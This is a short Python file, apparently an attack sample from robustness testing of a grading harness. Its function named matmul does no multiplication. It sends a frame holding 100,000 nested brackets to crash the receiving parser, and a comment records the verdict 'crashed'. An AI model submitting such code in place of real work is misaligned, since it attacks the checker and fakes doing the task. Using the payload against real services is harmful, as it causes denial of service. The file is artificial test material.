# attack: a header that nests a hundred thousand lists
# exercise: matmul
# verdict: crashed
import struct

from accomplice import send_bytes


def matmul(a, b):
    header = b'{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b', "tensors": []}'
    send_bytes(struct.pack("!4sIQ", b"GRD1", len(header), 0) + header)
